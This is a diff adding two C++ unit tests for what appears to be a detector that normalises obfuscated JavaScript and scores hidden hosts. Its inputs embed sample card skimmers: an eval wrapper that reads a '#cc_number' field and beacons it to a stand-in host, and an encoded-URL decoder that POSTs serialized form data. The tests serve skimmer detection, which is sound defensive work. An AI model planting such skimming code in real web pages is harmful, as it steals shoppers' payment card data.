@@ -457,6 +457,43 @@ TEST(NormalizeJs, StringsAFileConcealsWholesaleAreNotHiddenHosts) {
   EXPECT_GE(Best(Js(few)), 3) << AllText(Js(few));
 }
 
+TEST(NormalizeJs, ALiteralPassedToTheFilesOwnEvalWrapperIsCode) {
+  // `function w(c){..eval(c)..}` runs what it is given: its literal argument is a layer.
+  auto n =
+      Js("function w(c){if(self){return eval(c)}}w(\"var f=document.querySelector("
+         "'#cc_number').value;new Image().src='https://x.example/c?'+btoa(f);\");");
+  EXPECT_GE(Best(n), 3) << AllText(n);
+  bool layer = false;
+  for (const CodeLayer& l : n.layers) layer = layer || l.path.find("eval") != std::string::npos;
+  EXPECT_TRUE(layer) << AllText(n);
+  // A function that only prints what it is given is no wrapper.
+  n =
+      Js("function w(c){console.log(c)}w(\"var f=document.querySelector('#cc_number').value;"
+         "new Image().src='https://x.example/c?'+btoa(f);\");");
+  EXPECT_EQ(n.layers.size(), 1u) << AllText(n);
+}
+
+TEST(NormalizeJs, StringsDecodedOnComputedArgumentsAreNoHiddenHosts) {
+  // A decoder called with what a state machine computes (a flattener conceals every string so):
+  // the store's own checkout URL it rebuilds is obfuscated, not a host singled out.
+  std::string url = "https://shop.example.com/checkout/save", enc;
+  for (char c : url) enc += static_cast<char>(c + 1);
+  std::string dec =
+      "function d(s,k){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)"
+      "-k);return o}";
+  std::string flat = dec +
+                     "var s=[3,0];while(s[0]){switch(s[0]){case 3:var r=new "
+                     "XMLHttpRequest();r.open('POST',d('" +
+                     enc + "',s[1]+1));r.send(Form.serialize(f));s[0]=0;break}}";
+  auto n = Js(flat);
+  EXPECT_LT(Best(n), 3) << AllText(n);
+  EXPECT_NE(AllText(n).find(url), std::string::npos) << AllText(n);
+  // Called on literals, the hidden host counts as before.
+  std::string few = dec + "var r=new XMLHttpRequest();r.open('POST',d('" + enc +
+                    "',1));r.send(Form.serialize(f));";
+  EXPECT_GE(Best(Js(few)), 3) << AllText(Js(few));
+}
+
 TEST(NormalizeJs, NamesHiddenInABase64StringArrayStillCount) {
   // An obfuscator's string table: every name base64-encoded with a case-swapped alphabet,
   // looked up through a function the normaliser does not run.
